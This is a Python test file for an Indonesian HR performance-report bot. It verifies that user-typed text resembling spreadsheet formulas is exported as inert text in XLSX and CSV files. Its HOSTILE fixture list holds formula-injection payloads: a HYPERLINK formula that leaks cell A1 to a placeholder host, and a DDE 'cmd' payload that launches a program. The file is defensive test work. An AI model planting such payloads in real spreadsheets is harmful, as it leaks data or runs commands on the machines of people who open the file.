"""Spreadsheets that reach HR administrators stay text: what people typed (an RHK, an IKI, a
name, a unit) and that starts like a formula (= + - @, a tab, a carriage return) is never a
formula in any writer's file — the e-Kinerja sheet (XLSX and CSV), the progress report and
the MPPH. In an XLSX the typed text is kept as typed, stored as a string and quote-prefixed;
in a CSV it carries a leading apostrophe."""

from __future__ import annotations

import csv
import io
import zipfile

from openpyxl import load_workbook
from sqlalchemy import update

from bot.container import Services
from bot.db.models import Employee, SkpItem, Unit
from bot.documents import cells
from bot.documents.progress import progress_rows, progress_xlsx
from bot.documents.render import EKINERJA_COLUMNS, ekinerja_csv, ekinerja_xlsx
from bot.services import skp as store
from bot.services.demo import KATIM_SBBL
from tests.document_seeds import seed_skp

HOSTILE = [
    '=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,2)",
    "\t=1+2",
    "\r=1+2",
]


def sheet_xml(content: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return "".join(
            archive.read(name).decode()
            for name in archive.namelist()
            if name.startswith("xl/worksheets/")
        )


def test_the_helper_marks_only_formula_like_text() -> None:
    assert [cells.formula_like(t) for t in HOSTILE] == [True] * len(HOSTILE)
    for harmless in ("-", "Persentase 100%", "", "17,5", "a=b", " =1"):
        assert not cells.formula_like(harmless), harmless
    assert cells.csv_row(["=1+2", "-", 5, "Teks\x07 biasa"]) == ["'=1+2", "-", 5, "Teks biasa"]


async def test_the_ekinerja_sheet_keeps_typed_formulas_as_text(demo: Services) -> None:
    rows = [
        ("CL", HOSTILE[0], "kuantitas", HOSTILE[1], "5", "Kali", "20"),
        ("TUSI", HOSTILE[3], "kualitas", "Persentase layanan sesuai standar", "100%", "%", "80"),
    ]
    skp_id, items = await seed_skp(demo, KATIM_SBBL, rows)
    async with demo.sessionmaker() as session, session.begin():
        await session.execute(
            update(SkpItem).where(SkpItem.id == items[0]).values(leader_rhk=HOSTILE[2])
        )
    doc = await demo.documents.load(skp_id)

    content = ekinerja_xlsx(doc, demo.documents.texts)
    assert "<f>" not in sheet_xml(content)  # not one formula in the file
    sheet = load_workbook(io.BytesIO(content)).active
    first, second = (
        {c: cell for c, cell in zip(EKINERJA_COLUMNS, row, strict=True)}
        for row in list(sheet.iter_rows())[1:]
    )
    for cell, typed in (
        (first["Rencana Kinerja"], HOSTILE[0]),
        (first["Indikator"], HOSTILE[1]),
        (first["RHK Atasan yang Diintervensi"], HOSTILE[2]),
        (second["Rencana Kinerja"], HOSTILE[3]),
    ):
        assert (cell.value, cell.data_type, cell.quotePrefix) == (typed, "s", True)
    assert second["Indikator"].value == "Persentase layanan sesuai standar"
    assert not second["Indikator"].quotePrefix

    parsed = list(csv.DictReader(io.StringIO(ekinerja_csv(doc).decode("utf-8-sig")), delimiter=";"))
    assert parsed[0]["Rencana Kinerja"] == "'" + HOSTILE[0]
    assert parsed[0]["Indikator"] == "'" + HOSTILE[1]
    assert parsed[0]["RHK Atasan yang Diintervensi"] == "'" + HOSTILE[2]
    assert parsed[1]["Rencana Kinerja"] == "'" + HOSTILE[3]
    assert parsed[1]["Indikator"] == "Persentase layanan sesuai standar"
    assert parsed[1]["Target"] == "100" and parsed[1]["RHK Atasan yang Diintervensi"] == ""


async def test_the_progress_report_keeps_typed_formulas_as_text(demo: Services) -> None:
    await seed_skp(demo, KATIM_SBBL)
    async with demo.sessionmaker() as session, session.begin():
        await session.execute(
            update(Employee).where(Employee.nip == KATIM_SBBL).values(name=HOSTILE[0])
        )
        await session.execute(update(Unit).where(Unit.code == "YANKESGA").values(name=HOSTILE[4]))
        period = await store.current_period(session, demo.clock().date())
        assert period is not None
        rows = await progress_rows(session, period, None, demo.documents.texts, demo.settings.tz)
    content = progress_xlsx(rows, demo.documents.texts, "Progres SKP 2026")
    assert "<f>" not in sheet_xml(content)
    sheet = load_workbook(io.BytesIO(content)).active
    [mine] = [r for r in sheet.iter_rows(min_row=2) if r[1].value == KATIM_SBBL]
    assert (mine[2].value, mine[2].data_type, mine[2].quotePrefix) == (HOSTILE[0], "s", True)
    assert (mine[0].value, mine[0].quotePrefix) == (HOSTILE[4], True)
    assert mine[10].value == 100 and mine[10].data_type == "n"  # numbers stay numbers
